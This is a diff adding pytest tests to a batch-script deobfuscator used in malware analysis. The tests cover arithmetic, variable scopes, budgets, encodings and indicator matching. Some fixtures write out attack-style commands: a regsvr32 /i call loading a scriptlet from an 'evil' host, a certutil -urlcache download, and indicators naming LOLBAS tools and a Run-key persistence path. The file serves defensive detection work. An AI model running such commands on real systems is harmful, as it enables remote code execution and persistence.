@@ -1,7 +1,25 @@
 import pytest
+import io
+import itertools
 import multiprocessing
-
-from batch_deobfuscator.batch_interpreter import BatchDeobfuscator
+import os
+import sys
+import time
+from concurrent.futures import ThreadPoolExecutor
+
+from batch_deobfuscator.batch_interpreter import (
+  DEFAULT_INDICATORS,
+  ArtifactStore,
+  BatchDeobfuscator,
+  IndicatorMatcher,
+  canonical_command,
+  deobfuscate_file,
+  deobfuscate_many,
+  handle_bat_file,
+  interpret_logical_line,
+  interpret_logical_line_str,
+  write_bat_file,
+)
 
 
 class TestUnittests:
@@ -250,6 +268,44 @@ class TestUnittests:
         res = deobfuscator.normalize_command(echo)
         assert res == result
 
+    @staticmethod
+    @pytest.mark.parametrize(
+      "commands, variables",
+      [
+        (['set /a "EXP = 4 * 700 / 1000"'], {"exp": "2"}),
+        (["set /a x=-7/2, y=-7%%2, z=7%%-2"], {"x": "-3", "y": "-1", "z": "1"}),
+        # 32-bit signed integers
+        (["set /a x=2147483647+1, y=0xFFFFFFFF, z=1<<31"], {"x": "-2147483648", "y": "-1", "z": "-2147483648"}),
+        (["set /a x=010+0x10+10"], {"x": "34"}),
+        (["set /a x=!0+~0, y=-(3)"], {"x": "0", "y": "-3"}),
+        (["set /a x=(1+2)*3, y=1+2*3, z=1|6&3^5"], {"x": "9", "y": "7", "z": "3"}),
+        # Variables by name, undefined and non-numeric ones are 0
+        (["set a=5", "set b=abc", "set /a x=a*2+b+undefined"], {"x": "10"}),
+        (["set /a a=1, b=a+1, c=b<<3"], {"a": "1", "b": "2", "c": "16"}),
+        (["set /a x=y=2"], {"x": "2", "y": "2"}),
+        # Compound assignments
+        (["set /a x=16", "set /a x+=1", "set /a x<<=2", "set /a x^^=0xFF", 'set /a "x&=0x0F"'], {"x": "11"}),
+        (["set /a x=7", "set /a x%%=4, x*=-1"], {"x": "-3"}),
+        # Left as is when cmd would reject the expression
+        (["set /a x=08"], {"x": "(08)"}),
+        (["set /a x=1/0"], {"x": "(1/0)"}),
+        (["set /a x=4294967296"], {"x": "(4294967296)"}),
+        (["set /a x=(1+2"], {"x": "((1+2)"}),
+      ],
+    )
+    def test_set_a_math(commands, variables):
+        deobfuscator = BatchDeobfuscator(options={"math": True})
+        for command in commands:
+            deobfuscator.interpret_command(command)
+        assert {name: deobfuscator.variables.get(name) for name in variables} == variables
+
+    @staticmethod
+    def test_set_a_display_only():
+        deobfuscator = BatchDeobfuscator(options={"math": True})
+        variables = dict(deobfuscator.variables)
+        deobfuscator.interpret_command("set /a 5*5")
+        assert deobfuscator.variables == variables
+
     @staticmethod
     def test_clear_variable_with_set():
         # If you specify only a variable and an equal sign (without <string>) for the set command,
@@ -779,3 +835,406 @@ class TestUnittests:
         cmd = 'set "ab= ""'
         res = deobfuscator.normalize_command(cmd)
         assert res == cmd
+
+    @staticmethod
+    def test_child_scope_is_copy_on_write():
+        deobfuscator = BatchDeobfuscator()
+        deobfuscator.interpret_command("set EXP=43")
+        deobfuscator.interpret_command("set GONE=1")
+        child = deobfuscator.spawn_child()
+        assert child.normalize_command("echo %EXP%") == "echo 43"
+
+        child.interpret_command("set EXP=44")
+        child.interpret_command("set NEW=1")
+        child.interpret_command("set GONE=")
+        assert child.normalize_command("echo %EXP%%NEW%%GONE%") == "echo 441"
+        assert "gone" not in child.variables
+        assert deobfuscator.normalize_command("echo %EXP%%NEW%%GONE%") == "echo 431"
+        assert "new" not in deobfuscator.variables
+
+    @staticmethod
+    def test_deobfuscate_many(tmp_path):
+        (tmp_path / "a.bat").write_text("set x=echo\n%x% A\n")
+        (tmp_path / "b.bat").write_text("set y=echo\n%y% B\n")
+        results = {
+          os.path.basename(result["path"]): result
+          for result in deobfuscate_many([tmp_path / "a.bat", tmp_path / "b.bat", tmp_path / "c.bat"], workers=2)
+        }
+        assert results["a.bat"]["status"] == "ok"
+        assert results["a.bat"]["output"] == "set x=echo\necho A"
+        assert results["b.bat"]["output"] == "set y=echo\necho B"
+        assert results["c.bat"]["status"] == "error"
+
+    @staticmethod
+    def test_one_line_per_command():
+        deobfuscator = BatchDeobfuscator()
+        res = interpret_logical_line_str(deobfuscator, 'echo a & cmd /c "echo b & echo c" & echo d')
+        assert res == 'echo a\ncmd /c "echo b & echo c"\necho d'
+
+    @staticmethod
+    def test_write_bat_file(tmp_path):
+        (tmp_path / "a.bat").write_text("set x=echo\n\n%x% A & %x% B\n")
+        deobfuscator = BatchDeobfuscator()
+        output = io.StringIO()
+        write_bat_file(deobfuscator, tmp_path / "a.bat", output)
+        assert output.getvalue() == "set x=echo\n\necho A\necho B\n"
+
+    @staticmethod
+    def test_indicator_matcher(tmp_path):
+        # Small lists are scanned one indicator at a time, large ones with the automaton
+        for automaton in (False, True):
+            matcher = IndicatorMatcher(["regsvr32", "svr", ("URL", "http://evil"), "32 /s"], automaton=automaton)
+            assert matcher.find("RegSvr32 /s /i:HTTP://EVIL.com scrobj.dll") == [
+              ("LOLBAS", "regsvr32"),
+              ("LOLBAS", "svr"),
+              ("URL", "http://evil"),
+              ("LOLBAS", "32 /s"),
+            ]
+            assert matcher.find("echo nothing to see") == []
+        assert IndicatorMatcher(["a"] * IndicatorMatcher.AUTOMATON_THRESHOLD).goto is not None
+        assert DEFAULT_INDICATORS.goto is None
+
+        indicators_file = tmp_path / "indicators.txt"
+        indicators_file.write_text("# Comment\nmsbuild\n\nRegistry\tHKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\n")
+        matcher = IndicatorMatcher.from_file(indicators_file)
+        deobfuscator = BatchDeobfuscator(indicators=matcher)
+        commands = "MSBuild.exe a.xml & reg add hkcu\\software\\microsoft\\windows\\currentversion\\run /v x"
+        deobfuscator.analyze_logical_line(commands, ArtifactStore(), io.StringIO())
+        assert deobfuscator.traits["LOLBAS"] == [{"LOLBAS": "msbuild", "Command": "MSBuild.exe a.xml"}]
+        assert len(deobfuscator.traits["Registry"]) == 1
+
+    @staticmethod
+    def test_analyze_bytes(tmp_path):
+        data = b'set x=echo& cmd /c "%x% child" & powershell -e ZQBjAGgAbwAgACIAVwBpAHoAYQByAGQAIgA=\n'
+        deobfuscator = BatchDeobfuscator()
+        bat_filename, extracted_files, artifacts = deobfuscator.analyze_bytes(data)
+        assert deobfuscator.traits["one-liner"] is True
+        assert list(tmp_path.iterdir()) == []
+        assert artifacts[bat_filename] == (
+          b'set x=echo\r\ncmd /c "echo child"\r\npowershell -e ZQBjAGgAbwAgACIAVwBpAHoAYQByAGQAIgA=\r\n'
+        )
+        [(child_filename, _)] = extracted_files["batch"]
+        assert artifacts[child_filename] == b"echo child\r\n"
+        [(ps1_filename, _)] = extracted_files["powershell"]
+        assert artifacts[ps1_filename] == b'echo "Wizard"'
+
+        (tmp_path / "sample.bat").write_bytes(data)
+        on_disk = BatchDeobfuscator().analyze(tmp_path / "sample.bat", tmp_path)
+        assert on_disk == (bat_filename, extracted_files)
+        for filename, content in artifacts.items():
+            assert (tmp_path / filename).read_bytes() == content
+
+    @staticmethod
+    def test_duplicate_artifacts():
+        child = 'cmd /c "echo child"\n'
+        ps1 = "powershell -e ZQBjAGgAbwAgACIAVwBpAHoAYQByAGQAIgA=\n"
+        data = (child * 3 + ps1 * 2 + "copy a.exe b.exe\n" + child).encode()
+        deobfuscator = BatchDeobfuscator()
+        _, extracted_files, artifacts = deobfuscator.analyze_bytes(data)
+        assert len(extracted_files["batch"]) == 1
+        assert len(extracted_files["powershell"]) == 1
+        # The last child is analyzed again since the filesystem changed, but has the same content
+        assert deobfuscator.traits["duplicate-artifacts"] == {"batch": 3, "powershell": 1}
+        assert len(artifacts) == 3
+
+    @staticmethod
+    def test_expansion_cache():
+        deobfuscator = BatchDeobfuscator()
+        deobfuscator.interpret_command("set alpha=abcdef")
+        assert deobfuscator.normalize_command("echo %alpha:~1,1%%alpha:~1,1%") == "echo bb"
+        assert deobfuscator.expansion_cache_stats == {"hits": 1, "misses": 1}
+
+        deobfuscator.interpret_command("set alpha=zyxwvu")
+        assert deobfuscator.normalize_command("echo %alpha:~1,1%") == "echo y"
+        child = deobfuscator.spawn_child()
+        child.interpret_command("set alpha=")
+        assert child.normalize_command("echo %alpha:~1,1%") == "echo "
+        # The child replaced the cached expansion with its own
+        assert deobfuscator.normalize_command("echo %alpha:~1,1%") == "echo y"
+        assert deobfuscator.expansion_cache_stats == {"hits": 1, "misses": 4}
+
+    @staticmethod
+    @pytest.mark.parametrize(
+      "cmd, result",
+      [
+        ("echo %a%%b%%c%%d%", "echo abcd"),
+        ("%A%%b%%C%%d% x", "abcd x"),
+        ('echo "%a%%b%%c%%d%"', 'echo "abcd"'),
+        ("echo %alpha:~3,1%%alpha:~0,1%%ALPHA:~5,1%%alpha:~3,1% x", "echo dafd x"),
+        # Irregular runs are left to the general path
+        ("echo %a%%b%%undefined%%d%", "echo abd"),
+        ("echo %a%%b%%caret%%d%", "echo ab^d"),
+        ("echo %alpha:~3,1%%alpha:~0,1%%alpha:~9,1%%alpha:~3,1%", "echo dad"),
+        ("echo %alpha:~3,1%%alpha:~0,1%%a:~0,1%%alpha:~3,1%", "echo daad"),
+        # Dynamic variables are left as is
+        ("echo %dynamic:~1,1%%dynamic:~2,1%%dynamic:~3,1%%dynamic:~4,1%", "echo %dynamic%%dynamic%%dynamic%%dynamic%"),
+      ],
+    )
+    def test_reference_runs(cmd, result):
+        deobfuscator = BatchDeobfuscator(full_traits=True)
+        reference = BatchDeobfuscator(full_traits=True)
+        # The general path only
+        reference.expand_reference_run = lambda command, position, normalized_com, traits: (None, position + 1)
+        for set_command in ["set a=a", "set b=b", "set c=c", "set d=d", "set caret=^^", "set alpha=abcdef", "set dynamic=%=exitcodeAscii%"]:
+            deobfuscator.interpret_command(set_command)
+            reference.interpret_command(set_command)
+
+        assert deobfuscator.normalize_command(cmd) == result
+        assert reference.normalize_command(cmd) == result
+        assert deobfuscator.traits == reference.traits
+
+    @staticmethod
+    @pytest.mark.parametrize(
+      "cmd",
+      [
+        "echo A",
+        "echo A & echo B",
+        'echo "A & B"',
+        "echo A ^& B",
+        "echo A 2>&1",
+        "type a | find b",
+        'IF "A"=="A" echo AAA',
+        "  for %%a in (a b) do echo %%a",
+        "\tif a==a echo a",
+        ":: comment & echo",
+        "",
+      ],
+    )
+    def test_split_grouped_command(cmd):
+        deobfuscator = BatchDeobfuscator()
+        commands = list(deobfuscator.get_commands(cmd))
+        expected = commands if len(commands) > 1 else None
+        assert deobfuscator.split_grouped_command(cmd) == expected
+
+    @staticmethod
+    def test_nesting_limit():
+        # Deeper than the interpreter's recursion limit
+        deobfuscator = BatchDeobfuscator(max_depth=5000)
+        for i in range(3000):
+            deobfuscator.interpret_command(f"set v{i}=^!v{i + 1}^!")
+        deobfuscator.interpret_command("set v3000=x")
+        assert deobfuscator.normalize_command("echo !v0!") == "echo x"
+        assert "nesting-limit" not in deobfuscator.traits
+
+        deobfuscator = BatchDeobfuscator()
+        deobfuscator.interpret_command("set a=^!a^!")
+        assert deobfuscator.normalize_command("echo !a!") == "echo !a!"
+        assert deobfuscator.traits["nesting-limit"] == [{"Limit": "max_depth", "Stage": "normalize_command"}]
+
+        # Grows exponentially, which must be stopped long before reaching the depth limit
+        deobfuscator = BatchDeobfuscator()
+        deobfuscator.interpret_command("set a=^!a^!^!a^!")
+        deobfuscator.normalize_command("echo !a!")
+        assert {"Limit": "max_nested_work", "Stage": "normalize_command"} in deobfuscator.traits["nesting-limit"]
+
+    @staticmethod
+    def test_nested_children():
+        nested = "echo hi"
+        for _ in range(600):
+            nested = f"cmd /c {nested}"
+
+        deobfuscator = BatchDeobfuscator(max_depth=1000)
+        _, extracted_files, _ = deobfuscator.analyze_bytes(nested.encode())
+        assert len(extracted_files["batch"]) == 600
+        assert "nesting-limit" not in deobfuscator.traits
+
+        deobfuscator = BatchDeobfuscator(max_depth=100)
+        _, extracted_files, _ = deobfuscator.analyze_bytes(nested.encode())
+        assert len(extracted_files["batch"]) == 99
+        assert deobfuscator.traits["nesting-limit"] == [{"Limit": "max_depth", "Stage": "analyze_commands"}]
+        assert interpret_logical_line_str(deobfuscator, nested) == nested
+
+    @staticmethod
+    def test_budget(tmp_path, capsys):
+        # The value doubles with every line
+        script = b"set a=ab\r\n" + b"set a=%a%%a%\r\n" * 40 + b"echo done\r\n"
+        deobfuscator = BatchDeobfuscator(max_command_length=1000)
+        bat_filename, _, artifacts = deobfuscator.analyze_bytes(script)
+        assert deobfuscator.traits["budget-exceeded"] == "max_command_length"
+        assert artifacts[bat_filename].endswith(b"set a=" + b"ab" * 256 + b"\r\n")
+
+        # Children spend the budget of their parent
+        deobfuscator = BatchDeobfuscator(max_commands=3)
+        bat_filename, extracted_files, artifacts = deobfuscator.analyze_bytes(
+          b'echo a & cmd /c "echo b & echo c" & echo d\r\necho e'
+        )
+        assert deobfuscator.traits["budget-exceeded"] == "max_commands"
+        assert artifacts[bat_filename] == b'echo a\r\ncmd /c "echo b & echo c"\r\n'
+        assert not extracted_files
+
+        deobfuscator = BatchDeobfuscator(max_output_bytes=10)
+        assert interpret_logical_line_str(deobfuscator, "echo a & echo b") == "echo a"
+        assert deobfuscator.traits["budget-exceeded"] == "max_output_bytes"
+        interpret_logical_line(deobfuscator, "echo a & echo b")
+        assert capsys.readouterr().out == "echo a\n"
+
+        # The deadline counts from the call
+        deobfuscator = BatchDeobfuscator(timeout=0.2)
+        time.sleep(0.3)
+        assert interpret_logical_line_str(deobfuscator, "set a=1") == "set a=1"
+        assert "budget-exceeded" not in deobfuscator.traits
+        deobfuscator = BatchDeobfuscator(timeout=0)
+        assert interpret_logical_line_str(deobfuscator, "echo a & echo b") == ""
+        assert deobfuscator.traits["budget-exceeded"] == "timeout"
+
+        (tmp_path / "a.bat").write_text("echo a\necho b & echo c\necho d\n")
+        deobfuscator = BatchDeobfuscator(max_output_bytes=16)
+        assert handle_bat_file(deobfuscator, tmp_path / "a.bat") == "echo a\necho b"
+        assert deobfuscator.traits["budget-exceeded"] == "max_output_bytes"
+
+        deobfuscator = BatchDeobfuscator(max_commands=2)
+        output = io.StringIO()
+        write_bat_file(deobfuscator, tmp_path / "a.bat", output)
+        assert output.getvalue() == "echo a\necho b\n"
+        # The budget is restarted for every sample
+        assert handle_bat_file(deobfuscator, tmp_path / "a.bat") == "echo a\necho b"
+
+        result = deobfuscate_file(tmp_path / "a.bat", timeout=0)
+        assert result["status"] == "timeout"
+
+    @staticmethod
+    def test_profile():
+        deobfuscator = BatchDeobfuscator()
+        assert deobfuscator.profile_stats is None
+        assert "normalize_command" not in vars(deobfuscator)
+
+        deobfuscator = BatchDeobfuscator(profile=True)
+        deobfuscator.analyze_bytes(b'set a=echo\r\n%a% a & cmd /c "%a% b & %a% c"\r\n')
+        stats = deobfuscator.profile_stats
+        # The child adds to the stats of its parent
+        assert stats["normalize_command"]["calls"] == 5
+        assert stats["get_value"]["calls"] == 3
+        assert stats["interpret_set"]["calls"] == 1
+        assert stats["interpret_powershell"]["calls"] == 0
+        assert stats["artifact_writes"]["calls"] == 2
+        assert all(stage["seconds"] >= 0 for stage in stats.values())
+
+    @staticmethod
+    def test_concurrent_options():
+        script = 'set /a x=1+2\r\ncmd /c "exit 65"\r\nset c=%=exitcodeAscii%\r\ncmd /c "echo %x%%c%"\r\n'
+
+        def deobfuscate(options):
+            deobfuscator = BatchDeobfuscator(options=options)
+            lines = [interpret_logical_line_str(deobfuscator, line) for line in script.splitlines()]
+            bat_filename, _, artifacts = BatchDeobfuscator(options=options).analyze_bytes(script.encode())
+            return lines, artifacts[bat_filename]
+
+        combinations = [
+          {"math": math, "exitcodes": exitcodes, "verbose": verbose}
+          for math, exitcodes, verbose in itertools.product([False, True], repeat=3)
+        ]
+        expected = [deobfuscate(options) for options in combinations]
+        # Each combination gives a different result
+        assert len({repr(result) for result in expected}) == len(combinations)
+
+        switch_interval = sys.getswitchinterval()
+        sys.setswitchinterval(1e-6)
+        try:
+            with ThreadPoolExecutor(max_workers=8) as executor:
+                jobs = [combinations[i % len(combinations)] for i in range(200)]
+                results = list(executor.map(deobfuscate, jobs))
+        finally:
+            sys.setswitchinterval(switch_interval)
+        for i, result in enumerate(results):
+            assert result == expected[i % len(combinations)]
+
+        with pytest.raises(TypeError):
+            BatchDeobfuscator(options={"maths": True})
+
+    @staticmethod
+    @pytest.mark.parametrize(
+      "command, name",
+      [
+        ("cmd", "cmd"),
+        ("cmd.exe", "cmd"),
+        ("c:\\windows\\system32\\cmd.exe", "cmd"),
+        ("powershell", "powershell"),
+        ("set", "set"),
+        ("c:\\set.exe", None),
+        ("exit.exe", None),
+      ],
+    )
+    def test_canonical_command(command, name):
+        assert canonical_command(command) == name
+
+    @staticmethod
+    def test_register_handler():
+        calls = []
+
+        def handle_certutil(deobfuscator, normalized_comm, command):
+            calls.append((normalized_comm, command))
+            deobfuscator.traits["certutil"].append(normalized_comm)
+
+        deobfuscator = BatchDeobfuscator()
+        deobfuscator.register_handler("certutil.exe", handle_certutil)
+        deobfuscator.interpret_command("C:\\Windows\\System32\\certutil.exe -decode a b")
+        deobfuscator.interpret_command("certutil -urlcache -f http://example.com/a a")
+        assert calls == [
+          ("C:\\Windows\\System32\\certutil.exe -decode a b", "c:\\windows\\system32\\certutil.exe"),
+          ("certutil -urlcache -f http://example.com/a a", "certutil"),
+        ]
+        # Children use the handlers of their parent, other deobfuscators aren't affected
+        deobfuscator.spawn_child().interpret_command("certutil -decode c d")
+        assert len(calls) == 3
+        BatchDeobfuscator().interpret_command("certutil -decode c d")
+        assert len(calls) == 3
+
+    @staticmethod
+    @pytest.mark.parametrize("name", ["set.exe", "c:\\x\\exit.exe", "C:\\Windows\\CALL"])
+    def test_register_handler_builtin_path(name):
+        # Builtins written as programs are never run, and would catch every other one of them
+        deobfuscator = BatchDeobfuscator()
+        with pytest.raises(ValueError):
+            deobfuscator.register_handler(name, lambda deobfuscator, normalized_comm, command: None)
+        assert None not in deobfuscator.command_handlers
+
+    @staticmethod
+    @pytest.mark.parametrize(
+      "data, encoding",
+      [
+        ("@echo off\r\nset a=b\r\necho %a%\r\n".encode("utf-16"), "utf-16"),
+        ("@echo off\r\nset a=b\r\necho %a%\r\n".encode("utf-16-le"), "utf-16-le"),
+        ("@echo off\r\nset a=b\r\necho %a%\r\n".encode("utf-16-be"), "utf-16-be"),
+        # A UTF-16 BOM in front of UTF-8 content is only junk
+        (b"\xff\xfe@echo off\r\nset a=b\r\necho %a%\r\n", None),
+        (b"\xef\xbb\xbf@echo off\nset a=b\recho %a%\r\n", None),
+      ],
+    )
+    def test_read_logical_line_encodings(tmp_path, data, encoding):
+        (tmp_path / "a.bat").write_bytes(data)
+        deobfuscator = BatchDeobfuscator()
+        assert list(deobfuscator.read_logical_line(tmp_path / "a.bat")) == ["@echo off\n", "set a=b\n", "echo %a%\n"]
+        assert deobfuscator.traits.get("encoding") == encoding
+
+    @staticmethod
+    def test_read_logical_line_padding(tmp_path):
+        (tmp_path / "a.bat").write_bytes(b"echo a" + b"\xff" * 100000 + b" b\r\n\xc0\r\necho c")
+        deobfuscator = BatchDeobfuscator()
+        assert list(deobfuscator.read_logical_line(tmp_path / "a.bat")) == ["echo a b\n", "\n", "echo c"]
+        # Only whole blocks are skipped, the rest is dropped when decoding
+        assert 90000 < deobfuscator.traits["skipped-padding"] <= 100000
+
+        (tmp_path / "empty.bat").write_bytes(b"")
+        assert list(deobfuscator.read_logical_line(tmp_path / "empty.bat")) == []
+
+    @staticmethod
+    def test_trait_summary():
+        script = b"set a=echo\r\n" + b"%a% %a%\r\n" * 1000 + b"!a! b\r\n"
+        deobfuscator = BatchDeobfuscator(max_trait_examples=4)
+        deobfuscator.analyze_bytes(script)
+        var_used = deobfuscator.traits["var_used"]
+        # Every command and every value of a variable that was normalized
+        assert len(var_used) == 1 + 3 * 1000 + 2
+        assert var_used.total == 2 * 1000 + 1
+        assert list(var_used.examples) == [
+          ("echo", "echo", 0),
+          ("%a% %a%", "echo echo", 2),
+          ("echo", "echo", 0),
+          ("!a! b", "echo b", 1),
+        ]
+        assert deobfuscator.traits["start_with_var"].records == 1
+
+        deobfuscator = BatchDeobfuscator(full_traits=True)
+        deobfuscator.analyze_bytes(script)
+        assert len(deobfuscator.traits["var_used"]) == 1 + 3 * 1000 + 2
+        assert deobfuscator.traits["start_with_var"] == [("!a! b", "echo b")]